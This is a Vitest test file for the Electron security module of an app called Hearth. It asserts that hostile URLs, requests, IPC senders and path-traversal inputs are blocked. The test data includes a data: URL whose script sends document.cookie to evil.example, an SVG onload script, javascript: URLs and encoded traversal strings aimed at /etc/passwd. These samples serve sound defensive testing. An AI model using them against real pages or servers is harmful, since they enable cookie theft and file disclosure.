import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { describe, expect, it } from 'vitest'
import {
  APP_ENTRY,
  contentSecurityPolicy,
  isAllowedNavigation,
  isAppUrl,
  isTrustedSender,
  permissionPolicy,
  resolveAppPath,
  secureWebPreferences,
  shouldCancelRequest,
  windowOpenPolicy,
} from '../../../electron/main/security'

const hostile = [
  'javascript:alert(1)',
  'file:///etc/passwd',
  'http://example.com/',
  'https://app.hearth.example/',
  'http://127.0.0.1:5173/',
  'ws://127.0.0.1:1/',
  'ftp://example.com/x',
  'data:text/html,<script>alert(1)</script>',
  'app://evil/index.html',
  'app://hearth.evil.com/index.html',
  'app://user:pw@hearth/index.html',
  'about:blank',
  'chrome://settings',
  '',
  'not a url',
  42,
  null,
  undefined,
  { toString: () => 'app://hearth/' },
]

describe('threat: the renderer is led away from Hearth (navigation, new windows)', () => {
  it('allows only Hearth’s own app:// pages', () => {
    expect(isAllowedNavigation(APP_ENTRY)).toBe(true)
    expect(isAllowedNavigation('app://hearth/index.html#/journal')).toBe(true)
    for (const url of hostile) expect(isAllowedNavigation(url), String(url)).toBe(false)
  })
  it('allows the dev server only when one is configured and only on loopback', () => {
    expect(isAllowedNavigation('http://localhost:5173/', 'http://localhost:5173')).toBe(true)
    expect(isAllowedNavigation('http://localhost:5174/', 'http://localhost:5173')).toBe(false)
    expect(isAllowedNavigation('http://example.com/', 'http://example.com')).toBe(false)
  })
  it('denies every window.open, whatever the URL', () => {
    for (const url of [APP_ENTRY, ...hostile]) expect(windowOpenPolicy(url)).toEqual({ action: 'deny' })
  })
})

describe('threat: a page asks for the camera, microphone, notifications or location', () => {
  it('denies every permission', () => {
    for (const p of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'hid', 'serial', 'fullscreen'])
      expect(permissionPolicy(p, APP_ENTRY)).toBe(false)
  })
})

describe('threat: something in the renderer reaches the network (Hearth has none)', () => {
  it('cancels http, https, ws, ftp and file requests, and keeps app:// ones', () => {
    for (const url of ['http://example.com/a.js', 'https://fonts.example/font.woff2', 'ws://127.0.0.1:9/', 'ftp://x/y', 'file:///etc/hosts', 'blob:null/1', 'garbage', 7])
      expect(shouldCancelRequest(url), String(url)).toBe(true)
    expect(shouldCancelRequest('app://hearth/assets/index.js')).toBe(false)
    expect(shouldCancelRequest('app://evil/assets/index.js')).toBe(true)
  })
  it('cancels data: URLs of every kind too, as the README promises (the renderer uses none)', () => {
    for (const url of [
      'data:text/html,<script>fetch("https://evil.example/?"+document.cookie)</script>',
      'data:text/javascript;base64,YWxlcnQoMSk=',
      'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'data:image/png;base64,iVBORw0KGgo=',
      'data:font/woff2;base64,d09GMg==',
      'data:,',
      'DATA:text/plain,upper-case scheme',
      ' data:text/plain,leading space',
      'data:text/html;charset=utf-8,' + 'x'.repeat(5000),
    ])
      expect(shouldCancelRequest(url), url.slice(0, 40)).toBe(true)
    expect(shouldCancelRequest('data:text/html,x', 'http://localhost:5173')).toBe(true)
  })
  it('lets the inspector and the dev server through only in development, never in the packaged app', () => {
    expect(shouldCancelRequest('devtools://devtools/bundled/inspector.html')).toBe(true)
    expect(shouldCancelRequest('devtools://devtools/bundled/inspector.html', 'http://localhost:5173')).toBe(false)
    expect(shouldCancelRequest('http://localhost:5173/src/main.tsx')).toBe(true)
    expect(shouldCancelRequest('http://localhost:5173/src/main.tsx', 'http://localhost:5173')).toBe(false)
    expect(shouldCancelRequest('ws://localhost:5173/', 'http://localhost:5173')).toBe(false)
    expect(shouldCancelRequest('http://localhost:5174/x.js', 'http://localhost:5173')).toBe(true)
    expect(shouldCancelRequest('http://evil.example/x.js', 'http://evil.example')).toBe(true)
  })
})

describe('threat: a foreign frame sends IPC', () => {
  it('answers only Hearth’s own top-level frame', () => {
    expect(isTrustedSender({ url: APP_ENTRY, isMainFrame: true })).toBe(true)
    expect(isTrustedSender({ url: APP_ENTRY, isMainFrame: false })).toBe(false)
    expect(isTrustedSender({ url: 'https://evil.example/', isMainFrame: true })).toBe(false)
    expect(isTrustedSender({ url: 'file:///tmp/x.html', isMainFrame: true })).toBe(false)
    expect(isTrustedSender(null)).toBe(false)
    expect(isTrustedSender(undefined)).toBe(false)
    expect(isTrustedSender({})).toBe(false)
  })
})

describe('threat: path traversal through the app:// protocol', () => {
  it('maps Hearth paths into the renderer folder', () => {
    expect(resolveAppPath('app://hearth/')).toBe('index.html')
    expect(resolveAppPath('app://hearth/assets/index-abc.js')).toBe('assets/index-abc.js')
  })
  it('refuses traversal, other hosts, NUL bytes and backslashes', () => {
    // The URL parser already folds a literal '..' (it becomes app://hearth/etc/passwd, still inside
    // the renderer folder); what it leaves encoded must be refused here.
    expect(resolveAppPath('app://hearth/../../etc/passwd')).toBe('etc/passwd')
    expect(resolveAppPath('app://hearth/%2e%2e/%2e%2e/etc/passwd')).toBe('etc/passwd')
    for (const url of [
      'app://hearth/assets/..%2f..%2fsecret',
      'app://hearth/assets%5c..%5c..%5csecret',
      'app://hearth/a%00.js',
      'app://hearth/%E0%A4%A',
      'app://other/index.html',
      'file:///etc/passwd',
      'javascript:alert(1)',
    ])
      expect(resolveAppPath(url), url).toBeNull()
  })
})

describe('the window is created with the Electron security checklist settings', () => {
  it('isolates, sandboxes and disables node, webviews and the spellchecker download', () => {
    const prefs = secureWebPreferences('/x/preload.cjs')
    expect(prefs).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webviewTag: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      spellcheck: false,
    })
  })
  it('serves a CSP without inline scripts, eval, remote fonts or any connection', () => {
    const csp = contentSecurityPolicy()
    expect(csp).toContain("default-src 'none'")
    expect(csp).toContain("script-src 'self'")
    expect(csp).toContain("connect-src 'none'")
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https?:|data:|blob:/)
    expect(isAppUrl(APP_ENTRY)).toBe(true)
  })
  it('keeps the page’s own CSP meta tag as strict: no data: or blob: sources there either', () => {
    const html = readFileSync(resolve(import.meta.dirname, '../../../renderer/index.html'), 'utf8')
    const meta = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1] ?? ''
    expect(meta).toContain("default-src 'none'")
    expect(meta).not.toMatch(/data:|blob:|unsafe-inline|unsafe-eval/)
  })
})
